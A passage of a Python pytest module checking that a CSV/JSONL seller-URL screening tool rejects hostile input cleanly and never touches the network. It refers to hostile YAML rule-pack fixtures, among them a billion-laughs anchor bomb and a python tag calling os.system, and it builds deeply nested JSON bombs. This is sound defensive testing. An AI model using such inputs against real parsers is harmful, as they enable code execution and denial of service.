"""Hostile input, no network, nothing lost: the library keeps working on anything it is fed.

Each hostile file has a clear outcome: an error naming the file (and the place, when there is
one) with exit code 1 and no traceback, or every row out, in order, with an ``ns_error`` where
the URL is unusable. Binary fixtures are built here in ``tmp_path``; small text ones live in
``tests/data/hostile``.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from notorious_screen import normalize
from notorious_screen.cli import main
from notorious_screen.errors import DataError, RulePackError
from notorious_screen.normalize import MAX_URL_LENGTH, ErrorCode
from notorious_screen.rules import load_rule_pack
from notorious_screen.screen import OUTPUT_COLUMNS, Screener

REPO = Path(__file__).resolve().parents[1]
HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"
SELLERS = REPO / "examples" / "sellers.csv"
TAOBAO = "https://item.taobao.com/item.htm?id=1"


# ---- helpers ---------------------------------------------------------------------------------
def _screen(
    capsys: pytest.CaptureFixture[str], src: Path, *args: str, out: Path | None = None
) -> tuple[int, Path, str]:
    """Run ``screen`` through the real CLI; returns (exit code, output path, stderr)."""
    dst = out if out is not None else src.with_name(src.name + ".out.csv")
    code = main(["screen", str(src), "-o", str(dst), "--progress", "never", *args])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, dst, err


def _rows(path: Path) -> list[list[str]]:
    """All records of a CSV we wrote, header first, read with the csv module (byte for byte)."""
    csv.field_size_limit(sys.maxsize)  # the megabyte fields
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _dicts(path: Path) -> list[dict[str, str]]:
    header, *body = _rows(path)
    return [dict(zip(header, row, strict=True)) for row in body]


def _one_error(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("notorious-screen: error: ")
    return lines[0].removeprefix("notorious-screen: error: ")


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


# ---- no network, ever ----------------------------------------------------------------------
def _on_socket(kind: socket.SocketKind, call: Callable[[socket.socket], object]) -> object:
    with socket.socket(socket.AF_INET, kind) as s:
        return call(s)


@pytest.mark.parametrize(
    "attempt",
    [
        lambda: socket.create_connection(("192.0.2.1", 80), timeout=1),
        lambda: socket.getaddrinfo("publicsuffix.org", 443),
        lambda: _on_socket(socket.SOCK_STREAM, lambda s: s.connect(("192.0.2.1", 80))),
        lambda: _on_socket(socket.SOCK_STREAM, lambda s: s.connect_ex(("192.0.2.1", 80))),
        lambda: _on_socket(socket.SOCK_DGRAM, lambda s: s.sendto(b"x", ("192.0.2.1", 53))),
    ],
    ids=["create_connection", "getaddrinfo", "connect", "connect_ex", "sendto"],
)
def test_the_conftest_fixture_fails_every_way_out(attempt: Callable[[], object]) -> None:
    with pytest.raises(RuntimeError, match="network access attempted during tests"):
        attempt()


def test_the_only_tldextract_is_offline_and_cacheless() -> None:
    extractor = normalize._extractor()
    assert extractor.suffix_list_urls == ()
    assert extractor._cache.enabled is False  # cache_dir=None: never reads or writes a cache
    assert extractor.fallback_to_snapshot is True
    # ... and it is the only one: no other module builds an extractor or calls the global one.
    for path in sorted((REPO / "notorious_screen").glob("*.py")):
        text = path.read_text(encoding="utf-8")
        if path.name != "normalize.py":
            assert "TLDExtract(" not in text and "tldextract.extract" not in text, path.name
    source = (REPO / "notorious_screen" / "normalize.py").read_text(encoding="utf-8")
    assert source.count("TLDExtract(") == 1
    assert "TLDExtract(suffix_list_urls=(), cache_dir=None)" in source
    assert "tldextract.extract(" not in source


# Run inside the child before the program: every socket call is recorded and refused, and at
# exit the state of the tldextract instance is written out.
_OFFLINE_PRELUDE = r"""
import atexit, json, os, runpy, socket, sys

def _refuse(*args, **kwargs):
    with open(os.environ["NS_NET_LOG"], "a") as log:
        log.write(repr(args[:2]) + "\n")
    raise OSError("network refused by the test prelude")

for _name in ("connect", "connect_ex", "sendto", "sendmsg"):
    setattr(socket.socket, _name, _refuse)
socket.create_connection = socket.getaddrinfo = socket.gethostbyname = _refuse

def _report():
    from notorious_screen import normalize
    ex = normalize._EXTRACTOR
    state = None if ex is None else {
        "suffix_list_urls": list(ex.suffix_list_urls), "cache_enabled": ex._cache.enabled}
    with open(os.environ["NS_REPORT"], "w") as f:
        json.dump(state, f)

atexit.register(_report)
target, sys.argv = sys.argv[1], sys.argv[1:]
if target.endswith(".py"):
    runpy.run_path(target, run_name="__main__")
else:
    sys.argv[0] = target
    runpy.run_module(target, run_name="__main__", alter_sys=True)
"""


def _unshare_works() -> bool:
    if shutil.which("unshare") is None:
        return False
    try:
        done = subprocess.run(["unshare", "--net", "true"], capture_output=True, timeout=10)
    except (OSError, subprocess.TimeoutExpired):
        return False
    return done.returncode == 0


@pytest.mark.parametrize("program", ["cli", "pipeline"])
def test_examples_screen_offline_in_a_subprocess(tmp_path: Path, program: str) -> None:
    """The examples run with no network namespace (or refused sockets) and write no cache."""
    home, xdg, tld_cache = tmp_path / "home", tmp_path / "xdg", tmp_path / "tld-cache"
    for d in (home, xdg, tld_cache):
        d.mkdir()
    import tldextract

    package_cache = Path(tldextract.__file__).parent / ".suffix_cache"
    package_cache_existed = package_cache.exists()
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "PYTHONPATH": str(REPO),
        "HOME": str(home),
        "XDG_CACHE_HOME": str(xdg),
        "TLDEXTRACT_CACHE": str(tld_cache),
        # An explicit suffix_list_urls=() must win over this invitation to download the PSL.
        "TLDEXTRACT_PUBLIC_SUFFIX_LIST_URLS": "https://publicsuffix.org/list/public_suffix_list.dat",
        "NS_NET_LOG": str(tmp_path / "net.log"),
        "NS_REPORT": str(tmp_path / "report.json"),
    }
    out = tmp_path / "screened.csv"
    if program == "cli":
        args = ["notorious_screen", "screen", str(SELLERS), "-o", str(out),
                "--name-column", "seller_name", "--summary"]  # fmt: skip
    else:
        args = [str(REPO / "examples" / "pipeline.py"), str(SELLERS)]
    command = [sys.executable, "-c", _OFFLINE_PRELUDE, *args]
    if _unshare_works():
        command = ["unshare", "--net", *command]
    done = subprocess.run(
        command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    if program == "cli":
        rows = _dicts(out)
        assert len(rows) == 286
        assert "rows screened: 286" in done.stderr
        assert {r["ns_market_id"] for r in rows} >= {"taobao", "aliexpress"}
    else:
        assert done.stdout.startswith("286 rows screened, ")
    assert not (tmp_path / "net.log").exists(), (tmp_path / "net.log").read_text()
    state = json.loads((tmp_path / "report.json").read_text())
    assert state == {"suffix_list_urls": [], "cache_enabled": False}
    for d in (home, xdg, tld_cache):
        assert [p for p in d.rglob("*")] == [], d
    assert package_cache.exists() == package_cache_existed


# ---- hostile CSV files through the CLI -------------------------------------------------------
def test_utf8_bom_is_not_part_of_the_first_column_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "bom.csv", codecs.BOM_UTF8 + f"url,seller\n{TAOBAO},a\n".encode())
    for extra in ([], ["--encoding", "latin-1"]):  # a BOM decides, whatever --encoding says
        code, dst, err = _screen(capsys, src, *extra)
        assert code == 0, err
        header, row = _rows(dst)
        assert header[:2] == ["url", "seller"]
        assert row[:2] == [TAOBAO, "a"]
        assert dict(zip(header, row, strict=True))["ns_market_id"] == "taobao"


def test_latin1_file_is_one_clear_error_then_works_with_encoding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = f"url,seller\n{TAOBAO},Café Müller\nexample.org,Señor\n"
    src = _write(tmp_path, "latin1.csv", text.encode("latin-1"))
    code, dst, err = _screen(capsys, src)
    assert code == 1 and not dst.exists()
    assert _one_error(err) == (
        f"{src}:2:42: bytes that are not valid UTF-8 (0xe9); "
        "pass --encoding (e.g. latin-1, cp1252, utf-16) or --encoding-errors replace"
    )
    for encoding in ("latin-1", "cp1252", "auto"):
        code, dst, err = _screen(capsys, src, "--encoding", encoding)
        assert code == 0, err
        assert [r["seller"] for r in _dicts(dst)] == ["Café Müller", "Señor"]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_with_bom_work_without_options(
    tmp_path: Path, codec: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = f"url,seller\r\n{TAOBAO},淘宝店\r\nexample.org,x\r\n"
    bom = codecs.BOM_UTF16_BE if codec == "utf-16-be" else b""
    src = _write(tmp_path, "wide.csv", bom + text.encode(codec))
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    rows = _dicts(dst)
    assert [(r["url"], r["seller"]) for r in rows] == [(TAOBAO, "淘宝店"), ("example.org", "x")]
    assert rows[0]["ns_market_id"] == "taobao"


def test_utf16_without_bom_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = _write(tmp_path, "nobom.csv", f"url,seller\n{TAOBAO},a\n".encode("utf-16-le"))
    code, _, err = _screen(capsys, src)
    assert code == 1
    assert "UTF-16 without a BOM" in _one_error(err) and "--encoding utf-16" in err
    for encoding in ("utf-16", "utf-16-le"):  # utf-16 without a BOM reads little-endian
        code, dst, err = _screen(capsys, src, "--encoding", encoding)
        assert code == 0, err
        assert _dicts(dst)[0]["ns_market_id"] == "taobao"
    big_endian = _write(tmp_path, "be.csv", f"url\n{TAOBAO}\n".encode("utf-16-be"))
    code, dst, err = _screen(capsys, big_endian, "--encoding", "utf-16-be")
    assert code == 0 and _dicts(dst)[0]["ns_market_id"] == "taobao"


def test_invalid_utf8_error_then_replace(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(
        tmp_path, "bad.csv", b"url,seller\nexample.org,ok\n" + TAOBAO.encode() + b",a\xff\xfeb\n"
    )
    code, dst, err = _screen(capsys, src)
    assert code == 1 and not dst.exists()
    assert _one_error(err).startswith(f"{src}:3:40: bytes that are not valid UTF-8 (0xff); ")
    code, dst, err = _screen(capsys, src, "--encoding-errors", "replace")
    assert code == 0, err
    rows = _dicts(dst)
    assert [r["seller"] for r in rows] == ["ok", "a\ufffd\ufffdb"]
    assert rows[1]["ns_market_id"] == "taobao"


def test_invalid_bytes_deep_in_a_big_file_are_located(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Past the first 16 MiB block, read by pyarrow's background reader: still one clear error.
    line = b"https://shop.example.com/item/0123456789,seller name\n"
    count = (17 << 20) // len(line)
    src = _write(tmp_path, "deep.csv", b"url,seller\n" + line * count + b"example.org,caf\xe9\n")
    code, dst, err = _screen(capsys, src)
    assert code == 1 and not dst.exists()
    assert _one_error(err).startswith(f"{src}:{count + 2}:16: bytes that are not valid UTF-8")


@pytest.mark.parametrize(
    "bad",
    [
        b"example.org,caf\xe9,extra field\n",  # also a row with too many fields
        b'"example.org","multi\nline caf\xe9"\n',  # inside a quoted field over two lines
    ],
)
def test_invalid_bytes_past_the_first_block_are_located_whatever_the_row(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], bad: bytes
) -> None:
    line = b"https://shop.example.com/item/0123456789,seller name\n"
    count = (3 << 20) // len(line)
    src = _write(tmp_path, "deep.csv", b"url,seller\n" + line * count + bad)
    code, dst, err = _screen(capsys, src)
    assert code == 1 and not dst.exists()
    at = bad.index(b"\xe9")
    row = count + 2 + bad[:at].count(b"\n")
    column = at - (bad.rfind(b"\n", 0, at) + 1) + 1  # ASCII before it: bytes are characters
    expected = f"{src}:{row}:{column}: bytes that are not valid UTF-8 (0xe9); "
    assert _one_error(err).startswith(expected), err


@pytest.mark.parametrize(
    ("encoding", "message"),
    [
        ("klingon", "unknown encoding 'klingon'; try utf-8, latin-1, cp1252, utf-16 or auto"),
        ("rot13", "'rot13' is not a text encoding"),
        ("base64", "'base64' is not a text encoding"),
    ],
)
def test_bad_encoding_option(
    tmp_path: Path, encoding: str, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", b"url\nexample.org\n")
    code, _, err = _screen(capsys, src, "--encoding", encoding)
    assert code == 1 and _one_error(err) == message


def test_wrong_explicit_encoding_is_located(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", "url,seller\nexample.org,Café\n".encode("latin-1"))
    code, _, err = _screen(capsys, src, "--encoding", "ascii")
    assert code == 1
    assert _one_error(err) == (
        f"{src}:2:16: bytes that are not valid ascii (0xe9); "
        "check --encoding, or pass --encoding-errors replace"
    )


def test_nul_bytes_inside_fields_lose_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = (
        b"url,seller\n"
        b"https://item.taobao.com/\x00item,nul\x00inside\n"
        b"exa\x00mple.org,host with a NUL\n"
        b"\x00,only a NUL\n"
        b"example.org,after\n"
    )
    src = _write(tmp_path, "nul.csv", data)
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    rows = _dicts(dst)
    assert [r["url"] for r in rows] == [
        "https://item.taobao.com/\x00item",
        "exa\x00mple.org",
        "\x00",
        "example.org",
    ]
    assert rows[0]["seller"] == "nul\x00inside"
    assert rows[0]["ns_market_id"] == "taobao"  # a NUL in the path does not hide the host
    assert rows[1]["ns_error"] == "invalid_host"
    assert rows[2]["ns_error"] in ("empty", "no_host", "invalid_host")
    assert rows[3]["ns_error"] == ""


@pytest.mark.parametrize("newline", [b"\n", b"\r\n", b"\r"], ids=["LF", "CRLF", "CR"])
def test_line_endings_give_the_same_rows(
    tmp_path: Path, newline: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [b"url,seller", TAOBAO.encode() + b",a", b"example.org,b", b"pan.baidu.com/s/1,c"]
    src = _write(tmp_path, "in.csv", newline.join(lines) + newline)
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    rows = _dicts(dst)
    assert [(r["url"], r["seller"]) for r in rows] == [
        (TAOBAO, "a"),
        ("example.org", "b"),
        ("pan.baidu.com/s/1", "c"),
    ]
    assert [r["ns_market_id"] for r in rows] == ["taobao", "", "baidu-wangpan"]


def test_mixed_line_endings_and_no_final_newline(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", b"url,seller\r\nexample.org,a\nexample.com,b\rtmall.com,c")
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    assert [r["seller"] for r in _dicts(dst)] == ["a", "b", "c"]


def test_quoted_newlines_commas_and_quotes_survive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = HOSTILE / "quoted_newlines.csv"
    code, dst, err = _screen(capsys, src, out=tmp_path / "out.csv")
    assert code == 0, err
    rows = _dicts(dst)
    assert [r["seller"] for r in rows] == ["multi\nline\r\nseller", 'say "hi", then, leave']
    assert rows[0]["ns_market_id"] == "taobao"


def test_quoted_newline_inside_a_header_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", b'"seller\nname",url\nx,example.org\n')
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    assert _rows(dst)[0][:2] == ["seller\nname", "url"]


def test_ragged_row_names_the_row_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dst = tmp_path / "out.csv"
    dst.write_text("previous run\n")
    code, _, err = _screen(capsys, HOSTILE / "ragged.csv", out=dst)
    assert code == 1
    assert _one_error(err) == (
        f"{HOSTILE / 'ragged.csv'}: malformed row: expected 2 fields, got 3: "
        "'example.org,b,EXTRA FIELD'"
    )
    assert dst.read_text() == "previous run\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # no stray temporary file


@pytest.mark.parametrize(
    ("data", "message"),
    [
        # In the last column: pyarrow would read the rest of the file as one value.
        (
            b'url,seller\nexample.org,"never closed\nexample.com,x\n',
            "a quoted field in the last "
            "rows is never closed; everything after its opening quote would be read as one value: "
            "'never closed\\nexample.com,x\\n'",
        ),
        (
            b'url,seller\nexample.org,"open',
            "a quoted field in the last rows is never closed; "
            "everything after its opening quote would be read as one value: 'open\\n'",
        ),
        # Elsewhere: the row comes up short.
        (
            b'url,seller\n"example.org,never closed\nexample.com,x\n',
            "malformed row: expected 2 fields, got 1: '\"example.org,never closed\\nexample.com,x'",
        ),
    ],
    ids=["last-column", "last-column-no-newline", "first-column"],
)
def test_unterminated_quote_is_an_error(
    tmp_path: Path, data: bytes, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", data)
    code, dst, err = _screen(capsys, src)
    assert code == 1 and not dst.exists()
    assert _one_error(err) == f"{src}: {message}"


def test_closed_quotes_and_inch_marks_are_fine(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", b'url,seller\nexample.org,55" TV\nexample.org,"ends in\n"')
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    assert [r["seller"] for r in _dicts(dst)] == ['55" TV', "ends in\n"]


def test_megabyte_fields_keep_their_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    long_url = "https://item.taobao.com/" + "a" * (1 << 20)
    long_name = "n" * (1 << 20)
    src = tmp_path / "big.csv"
    src.write_text(f"url,seller\n{long_url},x\nexample.org,{long_name}\n{TAOBAO},y\n")
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    rows = _dicts(dst)
    assert [r["url"] for r in rows] == [long_url, "example.org", TAOBAO]
    assert rows[1]["seller"] == long_name
    assert len(long_url) > MAX_URL_LENGTH
    assert (rows[0]["ns_error"], rows[0]["ns_market_id"]) == ("too_long", "")
    assert rows[2]["ns_market_id"] == "taobao"


def test_megabyte_field_with_a_name_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "big.csv"
    src.write_text(f"url,seller\nexample.org,{'淘宝' * 300_000}\n")
    code, dst, err = _screen(capsys, src, "--name-column", "seller")
    assert code == 0, err
    (row,) = _dicts(dst)
    assert row["seller"] == "淘宝" * 300_000


def test_duplicate_url_column_is_an_error_other_duplicates_are_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "dup.csv", b"url,url,seller\nexample.org,tmall.com,a\n")
    code, _, err = _screen(capsys, src)
    assert code == 1 and _one_error(err) == f"{src}: column 'url' appears 2 times"

    src = _write(tmp_path, "dup2.csv", b"url,note,note\n" + TAOBAO.encode() + b",first,second\n")
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    header, row = _rows(dst)
    assert header[:3] == ["url", "note", "note"] and row[:3] == [TAOBAO, "first", "second"]
    # JSON objects hold one value per key: JSONL output refuses rather than dropping one.
    code, dst, err = _screen(capsys, src, out=tmp_path / "out.jsonl")
    assert code == 1 and not dst.exists()
    assert _one_error(err) == (
        "the input repeats column name(s) 'note'; JSONL output needs unique names: "
        "rename them or write CSV, TSV or XLSX"
    )


def test_header_names_are_kept_as_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Empty names, and names a type-guessing reader would turn into null, 1 or True.
    src = _write(tmp_path, "names.csv", b"url,,NA,01,true,\nexample.org,a,b,c,d,e\n")
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    header, row = _rows(dst)
    assert header[:6] == ["url", "", "NA", "01", "true", ""]
    assert row[:6] == ["example.org", "a", "b", "c", "d", "e"]


def test_missing_url_column_names_the_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", codecs.BOM_UTF8 + b"URL,Seller Name\nexample.org,a\n")
    code, _, err = _screen(capsys, src)
    assert code == 1
    assert _one_error(err) == (
        f"{src}: column 'url' not found; the input has columns: 'URL', 'Seller Name'"
    )


def test_url_column_present_but_empty(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = _write(tmp_path, "in.csv", b'url,seller\n,a\n"",b\n   ,c\n\t,d\n')
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    rows = _dicts(dst)
    assert [r["seller"] for r in rows] == ["a", "b", "c", "d"]
    assert [r["ns_error"] for r in rows] == ["empty"] * 4
    assert [r["ns_match"] for r in rows] == ["none"] * 4


@pytest.mark.parametrize("data", [b"url,seller\n", b"url,seller", b"url,seller\r\n"])
def test_header_only(tmp_path: Path, data: bytes, capsys: pytest.CaptureFixture[str]) -> None:
    src = _write(tmp_path, "in.csv", data)
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    assert _rows(dst) == [["url", "seller", *OUTPUT_COLUMNS]]


@pytest.mark.parametrize("data", [b"", b"\n", b"\r\n\r\n"])
def test_empty_file(tmp_path: Path, data: bytes, capsys: pytest.CaptureFixture[str]) -> None:
    src = _write(tmp_path, "in.csv", data)
    code, dst, err = _screen(capsys, src)
    assert code == 1 and not dst.exists()
    assert _one_error(err) == f"{src}: the file is empty (no header line)"


NOT_CSV = {
    "png": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, "a PNG image"),
    "zip": (
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) * 8,
        "a ZIP archive (an .xlsx workbook is one: pass --input-format xlsx)",
    ),
    "gzip": (b"\x1f\x8b\x08\x00" + bytes(range(256)) * 8, "gzip-compressed (decompress it first)"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a PDF document"),
    "xls": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "an old Excel .xls (OLE2) file: save it as .xlsx or CSV",
    ),
    "parquet": (
        b"PAR1\x15\x04\x15\x00" + bytes(range(256)),
        "a Parquet file: pass --input-format parquet",
    ),
}


@pytest.mark.parametrize("kind", sorted(NOT_CSV))
def test_files_that_are_not_csv(
    tmp_path: Path, kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    data, what = NOT_CSV[kind]
    src = _write(tmp_path, f"sellers.{kind}.csv", data)
    code, dst, err = _screen(capsys, src)
    assert code == 1 and not dst.exists()
    assert _one_error(err) == f"{src}: this is {what}, not a CSV/TSV text file"


def test_unknown_binary_is_a_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import random

    blob = random.Random(7).randbytes(50_000)
    src = _write(tmp_path, "noise.csv", b"\x01\x02" + blob)
    code, _, err = _screen(capsys, src)
    assert code == 1
    message = _one_error(err)
    assert message.startswith(f"{src}")
    assert "binary" in message or "not valid UTF-8" in message


def test_hostile_files_in_a_subprocess_exit_1_without_traceback(tmp_path: Path) -> None:
    """Through the installed entry point: stderr holds the one error line and nothing else
    (no "Exception ignored" report from pyarrow's row callback either)."""
    cases = {
        "latin1.csv": "url,seller\nexample.org,Café\nexample.org,a,b\n".encode("latin-1"),
        "image.csv": NOT_CSV["png"][0],
        "ragged.csv": (HOSTILE / "ragged.csv").read_bytes(),
        "deep.jsonl": b'{"url": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n",
    }
    for name, data in cases.items():
        src = _write(tmp_path, name, data)
        command = ["screen", str(src), "-o", str(tmp_path / "o.csv")]
        done = subprocess.run(
            [sys.executable, "-m", "notorious_screen", *command],
            cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
            capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        assert done.returncode == 1, (name, done.stderr)
        lines = done.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith(f"notorious-screen: error: {src}"), (
            done.stderr
        )
        assert not (tmp_path / "o.csv").exists()


# ---- hostile JSON Lines --------------------------------------------------------------------
@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b'{"url": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", ":1: JSON nested too deeply"),
        (
            b'{"url": "a.com"}\n{"url": "b.com", "url": "c.com"}\n',
            ":2: duplicate key 'url' in one object",
        ),
        (
            b'{"url": "a.com"}\n{"url": "caf\xe9"}\n',
            ":2:13: bytes that are not valid UTF-8 (0xe9); JSON Lines must be UTF-8",
        ),
        (b'{"url": "a.com"}\n["a.com"]\n', ":2: not a JSON object"),
        (b'{"url": "a.com"}\n{"url": \n', ":2:9: not a JSON object: Expecting value"),
    ],
    ids=["deep", "duplicate-key", "latin1", "array", "truncated"],
)
def test_hostile_jsonl(
    tmp_path: Path, data: bytes, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.jsonl", data)
    code, dst, err = _screen(capsys, src)
    assert code == 1 and not dst.exists()
    assert _one_error(err) == f"{src}{message}"


def test_jsonl_keys_appearing_later_are_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = (
        '\ufeff{"url": "a.com"}\n'
        "\n"
        '{"url": "b.com", "extra": "=1+1", "nested": {"k": [1, null]}}\n'
        '{"extra": "x"}\n'
    ).encode()
    src = _write(tmp_path, "in.jsonl", data)
    code, dst, err = _screen(capsys, src, "--no-neutralize")
    assert code == 0, err
    rows = _dicts(dst)
    assert [(r["url"], r["extra"], r["nested"]) for r in rows] == [
        ("a.com", "", ""),
        ("b.com", "=1+1", '{"k": [1, null]}'),
        ("", "x", ""),
    ]
    assert rows[2]["ns_error"] == "empty"


def test_jsonl_lone_surrogate_escapes_become_replacement_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = b'{"url": "\\ud800x.com", "n\\udcffame": ["a\\udfffb"]}\n{"url": "taobao.com"}\n'
    src = _write(tmp_path, "in.jsonl", data)
    code, dst, err = _screen(capsys, src)
    assert code == 0, err
    header, *rows = _rows(dst)
    assert header[:2] == ["url", "n\ufffdame"]
    assert [r[:2] for r in rows] == [["\ufffdx.com", '["a\ufffdb"]'], ["taobao.com", ""]]
    assert [r[header.index("ns_error")] for r in rows] == ["invalid_host", ""]


def test_parquet_columns_of_any_type_become_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import datetime

    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table(
        {
            "url": pa.array([b"taobao.com", None, b"\xffx.com"], type=pa.binary()),
            "n": [1, None, 3],
            "tags": [[1, 2], None, []],
            "info": [{"a": "=1"}, None, {"a": None}],
            "when": [datetime.datetime(2021, 1, 2), None, None],
            "kind": pa.array(["x", "y", "x"]).dictionary_encode(),
        }
    )
    src = tmp_path / "in.parquet"
    pq.write_table(table, src)
    code, dst, err = _screen(capsys, src, "--no-neutralize")
    assert code == 0, err
    rows = _dicts(dst)
    assert [(r["url"], r["n"], r["tags"], r["info"], r["kind"]) for r in rows] == [
        ("taobao.com", "1", "[1, 2]", '{"a": "=1"}', "x"),
        ("", "", "", "", "y"),
        ("\\xffx.com", "3", "[]", '{"a": null}', "x"),
    ]
    assert rows[0]["when"].startswith("2021-01-02 00:00:00")
    assert [r["ns_market_id"] for r in rows] == ["taobao", "", ""]


# ---- hostile rule packs --------------------------------------------------------------------
def _located(path: Path, line: int, column: int, message: str) -> str:
    return f"{path}:{line}:{column}: {message}"


HOSTILE_PACKS: dict[str, Callable[[Path], tuple[Path, str]]] = {
    "billion-laughs": lambda tmp: (
        HOSTILE / "billion_laughs.yaml",
        _located(HOSTILE / "billion_laughs.yaml", 4, 7, "YAML anchors (&l0) are not allowed"),
    ),
    "python-tag": lambda tmp: (
        HOSTILE / "python_tag.yaml",
        _located(
            HOSTILE / "python_tag.yaml", 7, 18,
            "YAML tags are not allowed (tag:yaml.org,2002:python/object/apply:os.system)",
        ),
    ),
    "deep-flow-nesting": lambda tmp: _pack(
        tmp, "deep.yaml", "version: 1\nname: deep\nrules: " + "[" * 5000 + "]" * 5000 + "\n",
        "3:1007", "invalid YAML: exceeded maximum nesting depth",
    ),
    "deep-mapping-nesting": lambda tmp: _pack(
        tmp, "deepmap.yaml", "version: 1\nname: deep\nrules: " + "{a: " * 5000 + "1" + "}" * 5000,
        "3:260", "nesting deeper than 64 levels",
    ),
    "deep-block-nesting": lambda tmp: _pack(
        tmp, "block.yaml",
        "version: 1\nname: deep\nrules:\n" + "".join(" " * i + "- \n" for i in range(200)),
        "", "nesting deeper than 64 levels",
    ),
    "huge": lambda tmp: _pack(
        tmp, "huge.yaml", "version: 1\nname: huge\n" + "# padding\n" * 600_000,
        None, "file is larger than 5 MiB",
    ),
    "backreference": lambda tmp: (
        HOSTILE / "backreference.yaml",
        _located(
            HOSTILE / "backreference.yaml", 8, 27,
            "regular expression uses a backreference, which the linear-time matcher does not "
            "support",
        ),
    ),
    "extends-itself": lambda tmp: (
        HOSTILE / "extends_self.yaml",
        _located(
            HOSTILE / "extends_self.yaml", 3, 10,
            f"extends cycle: {HOSTILE / 'extends_self.yaml'} -> {HOSTILE / 'extends_self.yaml'}",
        ),
    ),
    "binary": lambda tmp: _pack(
        tmp, "image.yaml", NOT_CSV["png"][0], "1:1", "file is not valid UTF-8"
    ),
    "nul": lambda tmp: _pack(
        tmp, "nul.yaml", "version: 1\nname: a\x00b\n", None,
        "file contains a NUL byte; not a YAML text file",
    ),
}  # fmt: skip


def _pack(
    tmp: Path, name: str, body: str | bytes, where: str | None, message: str
) -> tuple[Path, str]:
    path = tmp / name
    if isinstance(body, bytes):
        path.write_bytes(body)
    else:
        path.write_text(body, encoding="utf-8")
    if where is None:
        return path, f"{path}: {message}"
    if where == "":  # the exact column depends on the indentation: only the line prefix is fixed
        return path, f"{path}:"
    return path, f"{path}:{where}: {message}"


@pytest.mark.parametrize("case", sorted(HOSTILE_PACKS))
def test_hostile_rule_packs_are_rejected_quickly(
    tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path, expected = HOSTILE_PACKS[case](tmp_path)
    start = time.monotonic()
    with pytest.raises(RulePackError) as info:
        load_rule_pack(path)
